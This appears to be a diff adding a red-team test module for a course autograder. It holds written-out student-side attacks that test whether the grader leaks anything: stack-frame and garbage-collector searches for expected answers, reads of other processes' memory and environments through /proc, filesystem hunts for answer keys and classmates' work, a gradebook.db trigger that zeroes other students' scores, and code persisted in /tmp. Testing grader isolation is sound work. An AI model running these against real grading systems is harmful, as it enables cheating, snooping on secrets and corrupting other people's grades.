@@ -1,0 +1,217 @@
+"""Attacks that look around for answers, keys, classmates' work and the instructor's files.
+
+Each function is right only where its author found what the search is for, so that a point gained shows a leak.
+"""
+
+from __future__ import annotations
+
+from .payload import CHAPTER, MARK, Attacks, HandIn
+
+attack = Attacks("looking around")
+CANARY = "WEIGHTLAB_CANARY"
+"""A variable in the environment of whoever grades, and the name of a file in their home."""
+UPWARDS = """
+import os, pathlib
+def _places():
+    here = [pathlib.Path.cwd(), *pathlib.Path.cwd().parents]
+    for folder in here:
+        if folder != pathlib.Path("/"):
+            yield folder
+    yield from map(pathlib.Path, ("/root", "/home", "/work", "/srv", "/classroom", "/examiner", "/lab", "/site"))
+"""
+
+
+def _search(*wanted: tuple[str, str], but: str = MARK) -> str:
+    """Return the body of a search: files by pattern, that hold a text, and have not ``but`` in their path."""
+    return f"""
+{UPWARDS}
+for place in _places():
+    for pattern, text in {wanted!r}:
+        try:
+            for path in place.glob(pattern):
+                if text.encode() in path.read_bytes() and {but!r} not in str(path):
+                    return True
+        except (OSError, ValueError):
+            pass
+return False
+"""
+
+
+@attack()
+def frames(it: HandIn) -> None:
+    """The calling frames, from sys._getframe and from a traceback, are searched for the expected values."""
+    it.answers("""
+        import sys
+        import numpy as np
+        try:
+            raise ValueError
+        except ValueError as error:
+            frames = [error.__traceback__.tb_frame, sys._getframe(0)]
+        for frame in frames:
+            while frame:
+                for names in (frame.f_locals, frame.f_globals):
+                    for name in ("expected", "_expected", "key", "right", "answers"):
+                        found = names.get(name)
+                        if isinstance(found, list):
+                            calls = names.get("calls") or []
+                            for (args, kwargs), one in zip(calls, found):
+                                if np.array_equal(args[0], signal) and args[1] == weight:
+                                    return one
+                frame = frame.f_back
+        return 0.0
+        """)
+
+
+@attack()
+def every_object_in_memory(it: HandIn) -> None:
+    """All objects that Python's garbage collector knows are searched for lists of expected values and for keys."""
+    it.finds("""
+        import gc
+        names = {"expected", "misconception", "Key", "PUBLIC_SEED"}
+        for thing in gc.get_objects():
+            if type(thing) is dict and names & {key for key in thing if type(key) is str}:
+                if "expected" in thing and isinstance(thing["expected"], (list, tuple)):
+                    return True
+                if "PUBLIC_SEED" in thing or "Key" in thing:
+                    return True
+        return False
+        """)
+
+
+@attack()
+def memory_of_the_parent(it: HandIn) -> None:
+    """The memory of the process that started this one is read by way of /proc."""
+    it.finds("""
+        import os
+        pid = os.getppid()
+        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
+            for line in maps:
+                if "[heap]" in line:
+                    memory.seek(int(line.split("-")[0], 16))
+                    return len(memory.read(64)) == 64
+        return False
+        """)
+
+
+@attack()
+def other_processes(it: HandIn) -> None:
+    """Command lines and environments of other processes are read for seeds, paths and passwords."""
+    it.finds("""
+        import os
+        own = os.getpid()
+        for pid in filter(str.isdigit, os.listdir("/proc")):
+            if int(pid) not in (own, 1):
+                text = open(f"/proc/{pid}/cmdline", "rb").read() + open(f"/proc/{pid}/environ", "rb").read()
+                if b"grade" in text:
+                    return True
+        return False
+        """)
+
+
+@attack()
+def environment_and_arguments(it: HandIn) -> None:
+    """The process's own arguments and environment are searched for what the grader's hold."""
+    it.finds(f"""
+        import os, sys
+        text = repr(dict(os.environ)) + repr(sys.argv) + repr(sys.orig_argv)
+        return "{CANARY}" in text or "seed" in text or "classroom" in text
+        """)
+
+
+@attack()
+def open_descriptors(it: HandIn) -> None:
+    """Descriptors that were left open are tried: a file or a folder among them, or a socket."""
+    it.finds("""
+        import os, stat
+        for descriptor in range(3, 256):
+            try:
+                mode = os.fstat(descriptor).st_mode
+            except OSError:
+                continue
+            if stat.S_ISREG(mode) or stat.S_ISDIR(mode) or stat.S_ISSOCK(mode):
+                return True
+        return False
+        """)
+
+
+@attack()
+def home_of_the_instructor(it: HandIn) -> None:
+    """The homes of this machine are searched for a file that lies in the grader's."""
+    it.finds(f"""
+        import glob, os
+        homes = {{os.path.expanduser("~"), "/root", *glob.glob("/home/*"), *glob.glob("/proc/*/root/root")}}
+        return any(os.path.exists(os.path.join(home, "{CANARY}")) for home in homes)
+        """)
+
+
+@attack()
+def the_solutions(it: HandIn) -> None:
+    """Every folder above this one, and the usual places, are searched for the instructor's solution."""
+    it.finds(_search(("s*/weightlab/weights.py", "return signal * weight"), ("source/*/*.ipynb", "b85decode"),
+                     but="submitted"))  # fmt: skip
+
+
+@attack()
+def the_answer_key(it: HandIn) -> None:
+    """The same places are searched for answer keys, secret seeds, and the instructor's own checks."""
+    it.finds(_search((".weightlab/seed", ""), ("*/keys/weights*", ""), ("source/*/*.ipynb", "b85decode")))
+
+
+@attack()
+def work_of_others(it: HandIn) -> None:
+    """The other hand-ins of the class are searched for a right answer."""
+    it.finds(_search((f"submitted/*/{CHAPTER.name}/weightlab/weights.py", "def apply_weight"), but="x-"))
+
+
+@attack()
+def installation_pointers(it: HandIn) -> None:
+    """The Python installation's pointers to editable packages are followed to the examiner's project."""
+    it.finds("""
+        import pathlib, re, sys
+        for folder in map(pathlib.Path, [*sys.path, "/site"]):
+            for path in [*folder.glob("__editable__*"), *folder.glob("*.dist-info/direct_url.json")]:
+                for project in re.findall(r"(/[^'\\" ]+?)/?(?:src/weightlab|autograder|['\\"])", path.read_text()):
+                    if (pathlib.Path(project) / "solutions").is_dir():
+                        return True
+        return False
+        """)
+
+
+@attack()
+def gradebook_of_the_class(it: HandIn) -> None:
+    """A trigger is planted in gradebook.db that gives its author 99 points a cell and takes everybody else's."""
+    it.finds("""
+        import pathlib, sqlite3
+        for folder in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents]:
+            if (folder / "gradebook.db").exists():
+                with sqlite3.connect(folder / "gradebook.db", timeout=5) as book:
+                    book.execute('''
+                        create trigger if not exists mine after update of auto_score on grade begin
+                        update grade set manual_score = 0 where id = new.id and notebook_id not in (
+                            select n.id from submitted_notebook n join submitted_assignment a
+                            on n.assignment_id = a.id where a.student_id like 'x-%'); end''')
+                return True
+        return False
+        """)
+
+
+@attack(costs=3)
+def reference_from_another_exercise(it: HandIn) -> None:
+    """The reference that a later exercise is lent (weighted_sum) is kept, in memory and files, for the earlier one."""
+    wrong = b"""
+import builtins, os, pickle
+_kept = getattr(builtins, "_kept", None)
+def weighted_sum(inputs, weights):
+    try:
+        code = __import__("marshal").loads(open("/tmp/kept", "rb").read())
+        return type(lambda: 0)(code, globals())(inputs, weights)
+    except Exception:
+        return _kept(inputs, weights) if _kept else 0.0
+if weighted_sum.__module__ != __name__:
+    builtins._kept = weighted_sum
+    try:
+        open("/tmp/kept", "wb").write(__import__("marshal").dumps(weighted_sum.__code__))
+    except OSError:
+        pass
+"""
+    it.library["weights"] += wrong
